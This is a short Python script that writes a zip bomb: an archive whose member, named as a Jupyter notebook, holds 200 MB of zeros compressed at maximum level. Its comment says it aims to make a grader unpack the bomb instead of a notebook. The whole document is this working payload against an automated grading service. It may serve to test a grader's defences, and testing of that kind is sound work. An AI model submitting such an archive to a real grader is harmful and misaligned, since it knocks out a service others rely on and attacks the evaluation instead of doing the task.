# Tries to make the grader unpack a bomb in place of a notebook.
import zipfile


def make(path):
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("01_data.ipynb", "w") as file,
    ):
        for _ in range(200):
            file.write(bytes(1_000_000))
